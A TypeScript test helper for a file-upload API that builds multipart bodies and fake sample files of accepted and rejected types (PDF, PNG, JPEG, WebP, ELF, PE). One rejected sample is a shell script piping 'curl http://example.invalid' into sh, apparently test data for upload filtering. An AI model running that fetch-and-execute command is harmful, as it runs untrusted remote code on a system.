import { randomBytes } from 'node:crypto';
import type { TestApp } from './test-app.js';

export interface Part {
  name: string;
  /** A part with a file name is a file; without one, a plain field. */
  filename?: string;
  contentType?: string;
  data: Buffer | string;
}

/** A multipart/form-data body, built by hand so tests control every byte. */
export function multipart(parts: Part[]) {
  const boundary = `----redflag${randomBytes(8).toString('hex')}`;
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const disposition = `form-data; name="${part.name}"${part.filename !== undefined ? `; filename="${part.filename}"` : ''}`;
    const type = part.contentType ? `Content-Type: ${part.contentType}\r\n` : '';
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: ${disposition}\r\n${type}\r\n`));
    chunks.push(Buffer.isBuffer(part.data) ? part.data : Buffer.from(part.data));
    chunks.push(Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

/** Padding after a signature, so each sample is a plausible size and unique (different hashes). */
const filler = (n = 2048) => randomBytes(n);

/** Files of each accepted type: the signature, filler, and the ending the structure check looks for. */
export const samples = {
  // Random bytes in a stream, as a PDF's compressed content is.
  pdf: () =>
    Buffer.concat([
      Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Length 2048 >>\nstream\n', 'latin1'),
      filler(),
      Buffer.from('\nendstream\nendobj\n%%EOF\n'),
    ]),
  png: () =>
    Buffer.concat([
      Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex'),
      filler(),
      Buffer.from('0000000049454e44ae426082', 'hex'),
    ]),
  jpeg: () =>
    Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), filler(), Buffer.from('ffd9', 'hex')]),
  webp: () => {
    const body = Buffer.concat([Buffer.from('WEBPVP8L'), Buffer.from([0x0a, 0, 0, 0, 0x2f, 0, 0, 0]), filler()]);
    const size = Buffer.alloc(4);
    size.writeUInt32LE(body.length);
    return Buffer.concat([Buffer.from('RIFF'), size, body]);
  },
  elf: () => Buffer.concat([Buffer.from('7f454c46020101000000000000000000', 'hex'), filler()]),
  pe: () => Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), filler(), Buffer.from('PE\0\0')]),
  script: () => Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n'),
  text: () => Buffer.from('just some notes about the fraud, not a document format we accept\n'),
};

export async function uploadFile(
  t: TestApp,
  apiKey: string | undefined,
  data: Buffer,
  options: { filename?: string; contentType?: string; url?: string; remoteAddress?: string } = {},
) {
  const body = multipart([
    {
      name: 'file',
      filename: options.filename ?? 'evidence.bin',
      contentType: options.contentType ?? 'application/octet-stream',
      data,
    },
  ]);
  return t.app.inject({
    method: 'POST',
    url: options.url ?? '/api/v1/external/uploads',
    headers: { ...body.headers, ...(apiKey ? { 'x-api-key': apiKey } : {}) },
    payload: body.payload,
    ...(options.remoteAddress ? { remoteAddress: options.remoteAddress } : {}),
  });
}

/** Uploads a file and returns its reference URL (fails the test otherwise). */
export async function uploadedUrl(t: TestApp, apiKey: string, data: Buffer = samples.pdf()): Promise<string> {
  const res = await uploadFile(t, apiKey, data);
  if (res.statusCode !== 201) throw new Error(`upload failed ${res.statusCode}: ${res.body}`);
  return res.json().data.url;
}

/** The path and query of an absolute URL the service handed out, for app.inject. */
export const pathOf = (url: string) => {
  const parsed = new URL(url);
  return `${parsed.pathname}${parsed.search}`;
};
